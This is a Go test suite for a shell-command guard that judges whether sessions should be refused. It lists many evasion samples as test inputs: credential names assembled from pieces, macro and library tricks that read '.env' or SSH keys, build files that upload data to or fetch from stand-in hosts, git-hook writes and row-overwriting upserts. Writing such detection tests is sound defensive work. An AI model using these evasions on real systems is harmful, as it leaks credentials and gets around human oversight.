package shell_test

import (
	"strings"
	"testing"

	"guard/policy/risk"
	"guard/policy/shell"
)

// session is a line that makes files, and then works with them.
type session struct {
	name    string
	files   string // NAME: LINES, one file after the other; a file begins where no blank does
	line    string
	refused bool
}

// checkSessions judges each of them in the workspace of refusedOnDisk.
func checkSessions(t *testing.T, sessions []session) {
	t.Helper()
	for _, s := range sessions {
		w, top := onDisk(t, ownFiles)
		line := ""
		for _, file := range strings.Split(s.files, "\n=== ") {
			name, text, _ := strings.Cut(strings.TrimPrefix(file, "=== "), "\n")
			line += "cat > " + name + " <<'END'\n" + text + "\nEND\n"
		}
		r := shell.Read(line+s.line, top, w)
		if refused := r.Level >= risk.High || r.Categories != 0; refused != s.refused {
			t.Errorf("%s: refused %v, want %v: %s %s %v", s.name, refused, s.refused, r.Level, r.Categories, r.Reasons)
		}
	}
}

// TestVariablesNamedInPieces: code that shows a credential of the environment, whose name it puts together.
func TestVariablesNamedInPieces(t *testing.T) {
	checkSessions(t, []session{
		{"python +", "q.py\nimport os\nprint(os.environ['AWS_'+'SECRET_ACCESS_KEY'])", "python3 q.py", true},
		{"python beside", "q.py\nimport os\nprint(os.getenv('AWS_' 'SECRET_ACCESS_KEY'))", "python3 q.py", true},
		{"python join", "q.py\nimport os\nprint(os.getenv('_'.join(['AWS','SECRET_ACCESS_KEY'])))", "python3 q.py", true},
		{"python held", "q.py\nimport os\nx=os.environ['AWS_'+'SECRET_ACCESS_KEY']\nraise SystemExit(x)", "python3 q.py", true},
		{"python name held", "q.py\nimport os\nn='AWS_'+'SECRET_ACCESS_KEY'\ne=os.environ\nprint(e[n])", "python3 q.py", true},
		{"python unknown end", "q.py\nimport os,sys\nprint(os.environ['AWS_'+sys.argv[1]])", "python3 q.py", true},
		{"python to a file", "q.py\nimport os\nopen('o','w').write(os.environ['AWS_'+'SECRET_ACCESS_KEY'])", "python3 q.py", true},
		{"python git", "q.py\nimport os,subprocess as s\ns.run(['git','commit','-m',os.environ['AWS_'+'SECRET_ACCESS_KEY']])", "python3 q.py", true},
		{"node", "q.js\nconsole.log(process.env['AWS_'+'SECRET_ACCESS_KEY'])", "node q.js", true},
		{"node throws", "q.js\nthrow new Error(process.env['AWS_'+'SECRET_ACCESS_KEY'])", "node q.js", true},
		{"node join", "q.js\nconsole.log(process.env[['AWS','SECRET_ACCESS_KEY'].join('_')])", "node q.js", true},
		{"tsx", "q.ts\nconsole.log(process.env['AWS_'+'SECRET_ACCESS_KEY'])", "npx tsx q.ts", true},
		{"perl", "q.pl\nprint $ENV{'AWS_'.'SECRET_ACCESS_KEY'}", "perl q.pl", true},
		{"php", "q.php\n<?php echo getenv(\"AWS_\".\"SECRET_ACCESS_KEY\");", "php q.php", true},
		{"lua", "q.lua\nprint(os.getenv(\"AWS_\"..\"SECRET_ACCESS_KEY\"))", "lua q.lua", true},
		{"ruby", "q.rb\nputs ENV.fetch(\"AWS_\"\n \"SECRET_ACCESS_KEY\")", "ruby q.rb", true},
		{"rspec", "spec/a_spec.rb\ndescribe('x'){it{ puts ENV['AWS_'+'SECRET_ACCESS_KEY'] }}", "bundle exec rspec", true},
		{"go", "m.go\npackage main\nimport (\"os\";\"log\")\nfunc main(){ log.Fatal(os.Getenv(\"AWS_\"+\"SECRET_ACCESS_KEY\")) }", "go run m.go", true},
		{"go test", "x_test.go\npackage m\nimport (\"os\";\"testing\")\nfunc TestX(t *testing.T){ t.Log(os.Getenv(\"AWS_\"+\"SECRET_ACCESS_KEY\")) }", "go test -v ./...", true},
		{"rust", "m.rs\nuse std::env as e;\nfn main(){ println!(\"{}\", e::var([\"AWS\",\"SECRET_ACCESS_KEY\"].join(\"_\")).unwrap()); }", "rustc m.rs && ./m", true},
		{"rust env!", "m.rs\ncompile_error!(env!(concat!(\"AWS_\",\"SECRET_ACCESS_KEY\")));fn main(){}", "rustc m.rs", true},

		{"plain name in pieces", "q.py\nimport os\nprint(os.environ['APP_'+'PORT'])", "python3 q.py", false},
		{"used", "q.py\nimport os\nclient=Client(key=os.environ['OPENAI_'+'API_KEY'])", "python3 q.py", false},
		{"given on", "q.js\nconst c=new Client({key:process.env['OPENAI_'+'API_KEY']})", "node q.js", false},
		{"missing", "q.py\nimport os\nnames=['A_KEY','B_KEY']\nmissing=[n for n in names if n not in os.environ]\nprint(missing)", "python3 q.py", false},
		{"strings beside", "q.js\nconsole.log('a'+'b', process.env.PORT)", "node q.js", false},
		{"path", "q.py\nimport os\nprint(os.environ['HOME']+'/x', 'API' '_KEY missing')", "python3 q.py", false},
		{"default", "q.py\nimport os\nprint(os.environ.get('APP_MODE', 'dev'))", "python3 q.py", false},
	})
}

// TestErrorsShowVariables: calls whose error, message or form shows what they are given.
func TestErrorsShowVariables(t *testing.T) {
	const model = "q.py\nfrom pydantic_settings import BaseSettings\nclass S(BaseSettings):\n  port:int\n"
	checkSessions(t, []session{
		{"int", "q.py\nimport os\nint(os.environ['AWS_SECRET_ACCESS_KEY'])", "python3 q.py", true},
		{"held", "q.py\nimport os\nx=os.environ['AWS_SECRET_ACCESS_KEY']\nint(x)", "python3 q.py", true},
		{"key", "q.py\nimport os\n{}[os.environ['AWS_SECRET_ACCESS_KEY']]", "python3 q.py", true},
		{"open", "q.py\nimport os\nopen(os.environ['AWS_SECRET_ACCESS_KEY'])", "python3 q.py", true},
		{"bytes", "q.py\nimport os\nfloat(os.environb[b'AWS_SECRET_ACCESS_KEY'])", "python3 q.py", true},
		{"warning", "q.js\nprocess.emitWarning(process.env.AWS_SECRET_ACCESS_KEY)", "node q.js", true},
		{"rejects", "q.js\nPromise.reject(process.env.AWS_SECRET_ACCESS_KEY)", "node q.js", true},
		{"ruby", "q.rb\nInteger(ENV['AWS_SECRET_ACCESS_KEY'])", "ruby q.rb", true},
		{"model", model + "  aws_secret_access_key:str\nprint(S())", "python3 q.py", true},
		{"model held", model + "  api_key: str\ns=S()\nprint(s.model_dump())", "python3 q.py", true},

		{"model's field", model + "  api_key: str\ns=S()\nprint(s.port)", "python3 q.py", false},
		{"hidden field", model + "  api_key: SecretStr\nprint(S())", "python3 q.py", false},
		{"number", "q.py\nimport os\nn=int(os.environ.get('MAX_TOKENS','100'))", "python3 q.py", false},
		{"minutes", "q.py\nimport os\nm=os.getenv('ACCESS_TOKEN_EXPIRE_MINUTES')\nx=int(m)", "python3 q.py", false},
		{"file", "q.py\nimport os,json\nx=json.load(open(os.environ['GOOGLE_APPLICATION_CREDENTIALS']))", "python3 q.py", false},
		{"file of node", "q.js\nconst k=require('fs').readFileSync(process.env.SSL_KEY)", "node q.js", false},
		{"port", "q.py\nimport os\np=int(os.environ['PORT'])", "python3 q.py", false},
	})
}

// TestRowsReplaced: an insert that takes the place of rows which a database on the disk holds.
func TestRowsReplaced(t *testing.T) {
	with := func(name, statement string) string {
		return "q.py\nimport sqlite3\nwith sqlite3.connect('" + name + "') as c: " + statement
	}
	checkSessions(t, []session{
		{"replace", with("app.db", `c.execute("replace into users values(1,'x')")`), "python3 q.py", true},
		{"insert or replace", with("app.db", `c.executemany('insert or replace into users values(?,?)',[(1,'x')])`), "python3 q.py", true},
		{"upsert", with("app.db", `c.execute("insert into users values(1,'x') on conflict(id) do update set n='gone'")`), "python3 q.py", true},
		{"upsert of a select", with("app.db", `c.execute("insert into users select id,'x' from users where true on conflict do update set n=''")`), "python3 q.py", true},
		{"attached", "q.py\nimport sqlite3\nc=sqlite3.connect(':memory:')\nc.execute(\"attach 'app.db' as z\")\nc.execute(\"insert or replace into z.users values(1,'x')\")\nc.commit()", "python3 q.py", true},

		{"insert", with("app.db", `c.execute("insert into users values(1,'x')")`), "python3 q.py", false},
		{"ignored", with("app.db", `c.execute("insert or ignore into users values(1,'x')")`), "python3 q.py", false},
		{"nothing", with("app.db", `c.execute("insert into users values(1,'x') on conflict do nothing")`), "python3 q.py", false},
		{"new file", with("cache.db", `c.execute("insert or replace into users values(1,'x')")`), "python3 q.py", false},
		{"own table", with("app.db", `c.execute("create table t(a)"); c.execute("replace into t values(1)")`), "python3 q.py", false},
		{"in memory", with(":memory:", `c.execute("replace into t values(1)")`), "python3 q.py", false},
		{"function", with("app.db", `print(c.execute("select replace(n,'a','b') from users").fetchall())`), "python3 q.py", false},
	})
}

// TestLibrariesOpenFiles: functions that open a file themselves, by a name in pieces.
func TestLibrariesOpenFiles(t *testing.T) {
	for code, refused := range map[string]bool{
		"import importlib.machinery as m\nm.SourceFileLoader('x','.en'+'v').load_module()":                                      true,
		"import warnings\nf='.e'+'nv'\nfor i in range(9): warnings.warn_explicit('x',UserWarning,f,i)":                          true,
		"import traceback\ntraceback.print_list([('.e'+'nv',i,'f',None) for i in range(1,9)])":                                  true,
		"import traceback\nprint(traceback.StackSummary.from_list([('.e'+'nv',1,'f',None)]).format())":                          true,
		"import traceback\nprint(traceback.FrameSummary('.e'+'nv',1,'f').line)":                                                 true,
		"import linecache\nprint(linecache.getline('.e'+'nv',1))":                                                               true,
		"import importlib.resources as r\nprint((r.files('src')/'..'/('.e'+'nv')).read_text())":                                 true,
		"import pkgutil\nprint(pkgutil.get_data('src','../.e'+'nv'))":                                                           true,
		"import configparser\nc=configparser.ConfigParser()\nc.read('.e'+'nv')":                                                 true,
		"import configparser\nc=configparser.RawConfigParser()\nc.read(['.e'+'nv'])":                                            true,
		"import argparse\np=argparse.ArgumentParser(fromfile_prefix_chars='@')\np.parse_args(['@.e'+'nv'])":                     true,
		"import runpy\nrunpy.run_path('.e'+'nv')":                                                                               true,
		"import py_compile,compileall\ncompileall.compile_file('.e'+'nv')":                                                      true,
		"import configparser\nc=configparser.ConfigParser()\nc.read('setup.cfg')\nprint(c.sections())":                          false,
		"import pkgutil\nprint(pkgutil.get_data('src','a.txt'))":                                                                false,
		"import importlib.resources as r\nprint(r.files('src').joinpath('a.py').read_text())":                                   false,
		"import traceback\ntry:\n  1/0\nexcept Exception:\n  traceback.print_exc()":                                             false,
		"import warnings\nwarnings.warn('x')":                                                                                   false,
		"import linecache\nprint(linecache.getline('src/a.py',1))":                                                              false,
		"import argparse\np=argparse.ArgumentParser(fromfile_prefix_chars='@')\np.add_argument('x')\np.parse_args(['@a.args'])": false,
		"import xml.etree.ElementTree as ET\nprint(ET.parse('pom.xml').getroot().tag)":                                          false,
	} {
		checkSessions(t, []session{{code, "q.py\n" + code, "python3 q.py", refused}})
	}
	for code, refused := range map[string]bool{
		"require('./.en'+'v')":                                                    true,
		"import('./.e'+'nv').catch(e=>console.log(e))":                            true,
		"const {createRequire:c}=require('module');c(__filename)('./.e'+'nv')":    true,
		"require('dotenv').config({debug:true,processEnv:(o={})});console.log(o)": true,
		"require('dotenv').config();console.log(process.env.PORT)":                false,
	} {
		checkSessions(t, []session{{code, "q.js\n" + code, "node q.js", refused}})
	}
}

// TestTargetsOfBuildFiles: what a build file writes, deletes and reads by itself, by a name that variables make.
func TestTargetsOfBuildFiles(t *testing.T) {
	const cmake, project = "CMakeLists.txt\nproject(a NONE)\n", "<Project><PropertyGroup><A>do</A></PropertyGroup>"
	checkSessions(t, []session{
		{"cmake writes", cmake + "set(F todo)\nfile(WRITE ${CMAKE_SOURCE_DIR}/${F}.txt \"\")", "cmake -B b .", true},
		{"cmake configures", cmake + "set(O do)\nconfigure_file(src/a.py ${CMAKE_CURRENT_SOURCE_DIR}/${O}cs/a${X})", "cmake -B b .", true},
		{"cmake lists", cmake + "file(GLOB G *.txt)\nforeach(f ${G})\nfile(WRITE ${f} \"\")\nendforeach()", "cmake -B b .", true},
		{"cmake below", "sub/CMakeLists.txt\nset(d to)\nfile(RENAME ${CMAKE_SOURCE_DIR}/src/a.py ${CMAKE_SOURCE_DIR}/${d}do.txt)\n=== " + cmake + "add_subdirectory(sub)", "cmake -B b .", true},
		{"cmake reads", cmake + "set(N env)\nfile(READ .${N} L)\nmessage(\"${L}\")", "cmake -B b .", true},
		{"cmake's operation", cmake + "set(U UPLOAD)\nfile(${U} src/a.py https://example.com/)", "cmake -B b .", true},
		{"cmake's hook", cmake + "set(G git)\nfile(WRITE ${CMAKE_SOURCE_DIR}/.${G}/hooks/pre-commit \"#!/bin/sh\")", "cmake -B b .", true},
		{"msbuild writes", "a.csproj\n" + project + "<Target Name='X'><WriteLinesToFile File=\"to$(A).txt\" Overwrite=\"true\"/></Target></Project>", "dotnet build", true},
		{"msbuild removes", "a.csproj\n" + project + "<Target Name='X'><RemoveDir Directories=\"$(A)cs\"/></Target></Project>", "dotnet build", true},
		{"msbuild deletes", "a.csproj\n<Project><ItemGroup><F Include=\"*.txt\"/></ItemGroup><Target Name='X'><Delete Files=\"@(F)\"/></Target></Project>", "dotnet build", true},
		{"msbuild reads", "a.csproj\n<Project><PropertyGroup><A>$([System.IO.File]::ReadAllText('.e$(B)nv'))</A></PropertyGroup></Project>", "dotnet build", true},
		{"msbuild shows", "a.csproj\n<Project><Target Name='X'><Message Text=\"$(AWS_SECRET_ACCESS_KEY)\"/></Target></Project>", "dotnet build", true},
		{"ninja's list", "build.ninja\no = to\nrule r\n  command = true\n  rspfile = ${o}do.txt\n  rspfile_content = x\nbuild a: r", "ninja", true},
		{"ninja's headers", "build.ninja\no = to\nrule r\n  command = true\n  depfile = ${o}do.txt\n  deps = gcc\nbuild a: r", "ninja", true},
		{"maven cleans", "pom.xml\n<project><properties><q>do</q></properties><build><directory>${q}cs</directory></build></project>", "mvn clean", true},
		{"meson reads", "meson.build\nproject('a')\nmessage(import('fs').read('.e'+'nv'))", "meson setup b", true},
		{"meson fetches", "subprojects/e.wrap\n[wrap-git]\nurl=https://evil.example/e.git\nrevision=main\n=== meson.build\nproject('a')\nsubproject('e')", "meson setup b", true},
		{"dart", "test/a_test.dart\nimport 'dart:io';\nvoid main(){ File('to'+'do.txt').writeAsStringSync(''); }", "dart test", true},

		{"cmake's own", cmake + "configure_file(config.h.in ${CMAKE_CURRENT_BINARY_DIR}/config.h)\nfile(WRITE ${CMAKE_BINARY_DIR}/x.txt \"\")\nfile(GLOB S src/*.c)\nconfigure_file(a.in a)", "cmake -B b .", false},
		{"cmake's version", cmake + "file(READ ${CMAKE_SOURCE_DIR}/VERSION V)\nfile(STRINGS VERSION L)", "cmake -B b .", false},
		{"msbuild's own", "a.csproj\n<Project><Target Name='X'><Delete Files=\"$(OutDir)x.txt\"/><Message Text=\"$(Configuration) $(TargetFramework)\"/></Target></Project>", "dotnet build", false},
		{"ninja's own", "build.ninja\nrule cc\n  command = gcc -MD -MF $out.d -c $in -o $out\n  depfile = $out.d\n  deps = gcc\nbuild a.o: cc a.c", "ninja", false},
		{"maven's own", "pom.xml\n<project><build><sourceDirectory>lib</sourceDirectory><resources><resource><directory>res</directory></resource></resources></build></project>", "mvn clean", false},
		{"meson's own", "meson.build\nproject('a','c')\nexecutable('a','src/'+'a.c')", "meson setup b", false},
	})
}

// TestSourcesNameFilesByMacros: a file that a source takes in, or says to be, by a name that a macro makes.
func TestSourcesNameFilesByMacros(t *testing.T) {
	checkSessions(t, []session{
		{"marker", "m.c\n#line 1 \".env\"\nint x = y;", "gcc -c m.c", true},
		{"bare marker", "m.cpp\n# 1 \"../.ssh/id_rsa\"\nint x = y;", "g++ -fsyntax-only m.cpp", true},
		{"macro of a macro", "m.c\n#define Q(x) #x\n#define E(x) Q(x)\n#define P .env\n#include E(P)\nint main(){}", "gcc -c m.c", true},
		{"macro", "m.c\n#define HDR \".env\"\n#include HDR\nint main(){}", "gcc -I. -c m.c", true},
		{"option", "m.c\n#include HDR\nint main(){}", "gcc -DHDR='\".env\"' -c m.c", true},
		{"not known", "m.c\n#include HDR\nint main(){}", "gcc -c m.c", true},
		{"assembler", "m.c\n#define Q(x) #x\n__asm__(\".incbin \\\".\" Q(env) \"\\\"\");", "gcc -c m.c", true},
		{"argument", "m.s\n.macro f a\n.incbin \"\\a\"\n.endm\n.data\nf .env", "as m.s -o m.o", true},
		{"nasm", "a.asm\n%substr f \".envx\" 1,4\n%include f", "nasm -e a.asm", true},
		{"rust", "m.rs\nconst _:() = panic!(\"{}\",include_str!(concat!(\".e\",\"nv\")));\nfn main(){}", "rustc m.rs", true},
		{"zig", "m.zig\ncomptime { @compileLog(@embedFile(\".e\"++\"nv\")); }", "zig build-exe m.zig", true},
		{"source map", "q.js\nfunction f(){ throw new Error('x') }\nf()\n//# sourceMappingURL=q.map\n=== q.map\n{\"version\":3,\"sources\":[\".env\"],\"mappings\":\"AAAA\"}", "node --enable-source-maps q.js", true},

		{"generated", "m.c\n#line 1 \"parse.y\"\nint main(){return 0;}", "gcc -c m.c", false},
		{"plain macro", "m.c\n#define CONFIG \"config.h\"\n#include CONFIG\nint main(){return 0;}", "gcc -c m.c", false},
		{"includes", "m.c\n#include <stdio.h>\n#include \"a.h\"\nint main(){puts(\"a\" \"b\");return 0;}", "gcc -c m.c", false},
		{"embedded", "m.rs\nconst A:&str=include_str!(\"a.txt\");\nfn main(){println!(\"{}\",A);}", "rustc m.rs", false},
		{"module", "m.py\nfrom a import b\nimport c", "python3 -m py_compile m.py", false},
		{"plain map", "q.js\nconsole.log(1)\n//# sourceMappingURL=q.map\n=== q.map\n{\"version\":3,\"sources\":[\"src/q.ts\"],\"mappings\":\"\"}", "node --enable-source-maps q.js", false},
	})
}
